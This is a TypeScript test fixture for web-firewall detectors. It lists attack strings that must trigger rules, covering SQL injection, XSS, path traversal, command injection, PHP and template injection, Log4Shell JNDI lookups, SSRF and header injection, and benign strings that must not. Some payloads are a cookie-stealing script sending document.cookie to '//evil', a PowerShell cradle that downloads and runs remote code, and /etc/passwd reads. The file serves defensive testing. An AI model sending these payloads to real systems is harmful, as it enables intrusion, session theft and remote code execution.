// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads and rule titles are literal text, not templates
/**
 * Shared detector cases: one table, run against every scanner backend
 * (TypeScript reference and Wasm) by detectors.test.ts, in the manner of
 * hono's router conformance suite. `hit` lists rule ids or families that
 * must fire at paranoia 1 (any one of the list is enough when `any` is set);
 * a case with `hit: []` must stay below the blocking threshold at PL1.
 */
export interface DetectorCase {
  name: string;
  /** Where the value sits. */
  where: "query" | "path" | "ua" | "cookie" | "header" | "json" | "form";
  value: string;
  /** Rule ids or families expected at PL1 (empty: must not block at PL1). */
  hit: string[];
}

const q = (name: string, value: string, ...hit: string[]): DetectorCase => ({ name, where: "query", value, hit });

export const ATTACKS: DetectorCase[] = [
  // SQL injection
  q("tautology after quote", "' or 1=1--", "sqli"),
  q("numeric boolean", "1 and 1=1", "sqli"),
  q("comment breakout", "admin'--", "sqli"),
  q("stacked drop", "1; drop table users", "sqli"),
  q("union select", "' union select null,null--", "sqli"),
  q("union all select numbers", "1 union all select 1,2,3", "sqli"),
  q("time based", "1' and sleep(5)#", "sqli"),
  q("waitfor", "';waitfor delay '0:0:5'--", "sqli"),
  q("postgres cast", "'1'::int", "sqli"),
  q("comment inside keyword", "1 UN/**/ION SEL/**/ECT 1,2,3", "sqli"),
  q("mysql versioned comment", "1 /*!50000union*/ select 1", "sqli"),
  q("system table", "x from information_schema.tables", "sqli"),
  q("html entity quote", "&#39; OR &#39;1&#39;=&#39;1", "sqli"),
  q("double url encoding", "%2527%2520or%25201%253D1--", "sqli"),
  q("fullwidth quote and equals", "\uff07 or 1\uff1d1--", "sqli"),
  q("mixed case", "' Or 'A'='a", "sqli"),
  q("mongo operator in name", "user[$ne]", "nosql"),
  q("integer overflow probe", "2147483648", "942220"),
  q("unsigned overflow probe", "-2147483649", "942220"),
  q("PHP float parser hang", "2.2250738585072011e-308", "942220"),
  q("Java float parser hang, upper-case exponent", "2.2250738585072012E-308", "942220"),
  q("overflowing exponent", "1e309", "942220"),
  // XSS
  q("script tag", "<script>alert(1)</script>", "xss"),
  q("img onerror", "<img src=x onerror=alert(1)>", "xss"),
  q("svg onload slash", "<svg/onload=alert(1)>", "xss"),
  q("javascript uri", "javascript:alert(document.domain)", "xss"),
  q("javascript uri split by tab", "java\tscript:alert(1)", "xss"),
  q("entity encoded tag", "&lt;script&gt;alert(1)&lt;/script&gt;", "xss"),
  q("double encoded tag", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "xss"),
  q("fullwidth brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "xss"),
  q("attribute injection", '" onmouseover="alert(1)', "xss"),
  q("iframe", "<iframe src=//evil.example>", "xss"),
  q("cookie theft", "x';document.location='//evil/?c='+document.cookie;//", "xss"),
  q("entity in scheme", '<a href="jav&#x09;ascript:alert(1)">x</a>', "xss"),
  q("computed property", "window['al'+'ert'](1)", "xss"),
  // Traversal and files
  q("dot dot slash", "../../../../etc/passwd", "traversal"),
  q("backslash traversal", "..\\..\\windows\\win.ini", "traversal"),
  q("overlong slash", "..%c0%af..%c0%afetc%c0%afpasswd", "traversal"),
  q("filter evasion", "....//....//etc/passwd", "traversal"),
  { name: "encoded traversal in path", where: "path", value: "/static/%2e%2e/%2e%2e/etc/passwd", hit: ["traversal"] },
  { name: "git config in path", where: "path", value: "/.git/config", hit: ["lfi"] },
  { name: "backup file in path", where: "path", value: "/index.php.bak", hit: ["lfi"] },
  // Command injection
  q("semicolon cat", "x; cat /etc/passwd", "rce"),
  q("pipe whoami", "x | whoami", "rce"),
  q("command substitution", "$(id)", "rce"),
  q("backticks", "`uname -a`", "rce"),
  q("quote obfuscation", "a;w'h'o'am'i", "rce"),
  q("IFS", "cat${IFS}/etc/passwd", "rce"),
  q("brace expansion", "{cat,/etc/passwd}", "rce"),
  q("shell path", ";/bin/bash -c 'id'", "rce"),
  q("shellshock", "() { :; }; /bin/bash -c id", "rce"),
  q("windows for", "FOR /F %i IN ('dir') DO echo %i", "rce"),
  q("powershell cradle", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "rce"),
  q("ssi exec", '<!--#exec cmd="ls" -->', "rce"),
  q("glob path", "cat /e??/p*d", "rce"),
  // PHP and code
  q("php open tag", "<?php system('id'); ?>", "php"),
  q("php short echo", "<?= $x ?>", "php"),
  q("php superglobal", "$_GET['cmd']", "php"),
  q("php call with comment", "system/**/('id')", "php"),
  q("php eval base64", "eval(base64_decode('aWQ='))", "php", "xss"),
  q("php serialized", 'O:8:"stdClass":0:{}', "php"),
  q("php variable call", "$f($_POST['x'])", "php"),
  q("template arithmetic", "{{7*7}}", "ssti"),
  q("el expression", "${7*7}", "ssti"),
  q("jinja block", "{% if 1 %}x{% endif %}", "ssti"),
  q("ruby interpolation", "#{7*7}", "ssti"),
  q("node child process", "require('child_process').exec('id')", "code"),
  q("prototype pollution", "__proto__[admin]", "code"),
  // Java and Log4Shell
  q("jndi", "${jndi:ldap://x.example/a}", "java"),
  q("jndi lower", "${${lower:j}ndi:ldap://x.example/a}", "java"),
  q("jndi defaults", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", "java"),
  q("runtime exec", "java.lang.Runtime.getRuntime().exec('id')", "java"),
  q("serialized base64", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "java"),
  // RFI and SSRF
  q("rfi by ip", "http://203.0.113.7/shell.txt", "rfi"),
  q("php filter wrapper", "php://filter/convert.base64-encode/resource=index", "rfi", "php"),
  q("file scheme", "file:///etc/passwd", "rfi", "lfi"),
  q("metadata", "http://169.254.169.254/latest/meta-data/", "ssrf"),
  q("ipv6 loopback", "http://[::1]:8080/admin", "ssrf"),
  q("decimal ip", "http://2130706433/", "ssrf"),
  q("trailing question mark", "https://evil.example/x.php?", "rfi"),
  // Protocol
  q("header injection", "a%0d%0aSet-Cookie: x=1", "protocol"),
  q("request splitting", "x\r\n\r\nGET /admin HTTP/1.1", "protocol"),
  q("ldap injection", "*)(uid=*))(|(uid=*", "ldap"),
  q("smtp injection", "a@b.c\r\nRCPT TO:<victim@example.com>", "protocol"),
  { name: "sqlmap user agent", where: "ua", value: "sqlmap/1.7.2#stable (https://sqlmap.org)", hit: ["scanner"] },
  { name: "nikto user agent", where: "ua", value: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", hit: ["scanner"] },
  { name: "cookie sqli", where: "cookie", value: "sid=' or '1'='1", hit: ["sqli"] },
  { name: "json xss", where: "json", value: "<svg onload=alert(1)>", hit: ["xss"] },
  { name: "form log4j", where: "form", value: "${jndi:dns://x.example}", hit: ["java"] },
  { name: "header log4j", where: "header", value: "${jndi:ldap://x.example/a}", hit: ["java"] },
];

export const BENIGN: DetectorCase[] = [
  q("irish name", "O'Brien"),
  q("possessive", "D'Angelo's pizza and O'Reilly's books"),
  q("prose with sql words", "Please select the items from the list, then union them into one order"),
  q("prose select from", "Select your country from the dropdown where you live"),
  q("union committee", "The union select committee met on Friday"),
  q("apostrophes and or", "it's 5 o'clock or later"),
  q("rock n roll", "rock 'n' roll or jazz"),
  q("email", "john.o'hara+news@example.co.uk"),
  q("url parameter", "https://docs.example.com/guide?page=2&sort=asc"),
  q("json with quotes", '{"name":"O\'Brien","note":"say \\"hi\\""}'),
  q("code snippet in comment", "function add(a, b) { return a + b; } // works for (1, 2)"),
  q("jquery snippet", "$(document).ready(function () { $('#x').hide(); });"),
  q("less than three", "I <3 you, a < b and c > d"),
  q("javascript book title", "JavaScript: The Good Parts"),
  q("english commands", "time flies; cat food & dog treats"),
  q("tom and jerry", "Tom & Jerry (the cartoon)"),
  q("parenthesised word", "hello world (test)"),
  q("price", "costs $5 (incl. tax) or 10% off"),
  q("spanish address", "C/ Mayor 12, 3?D, S/N"),
  q("xml declaration", '<?xml version="1.0" encoding="UTF-8"?>'),
  q("plain template name", "Hello {{name}}"),
  q("java prose", "I love java. Runtime errors are rare."),
  q("java url", "https://www.java.com/en/download/"),
  q("file plural", "upload file(s) here"),
  q("system prose", "the solar system (see below) is big"),
  q("relative dots", "wait... then go, version 1..2"),
  q("online flag", "online = true"),
  q("base64 token", "SGVsbG9Xb3JsZFRoaXNJc0FCYXNlNjRFbmNvZGVkU3RyaW5n"),
  q("uuid", "3f2c1b9e-8d4a-4c1f-9b2e-7a6d5c4b3a21"),
  q("date", "2024-01-31T12:00:00Z"),
  q("french prose", "C’est simple: si les feux sont au vert, l’assistance peut intervenir; voilà."),
  q("search query", "how to select a laptop from a list of 10 models"),
  q("math", "2+2=4 and 3*3=9"),
  q("windows path", "C:\\Users\\alice\\Documents\\report.docx"),
  {
    name: "browser user agent",
    where: "ua",
    value:
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    hit: [],
  },
  { name: "curl user agent", where: "ua", value: "curl/8.4.0", hit: [] },
  { name: "api path", where: "path", value: "/api/v1/users/42/orders", hit: [] },
  q("ordinary large number", "2147483646"),
  q("near the float boundary", "2.2250738585072011e-307"),
  q("overflow value inside text", "id 2147483648 of 3"),
  { name: "overflow value as a path segment", where: "path", value: "/orders/2147483648", hit: [] },
  { name: "well-known path", where: "path", value: "/.well-known/security.txt", hit: [] },
  { name: "session cookie", where: "cookie", value: "sid=5f7g8h9i0j1k2Wm3Rt5Vp9Ys; theme=dark", hit: [] },
  { name: "json prose", where: "json", value: "We'll meet at 5 o'clock; bring the union select documents.", hit: [] },
];
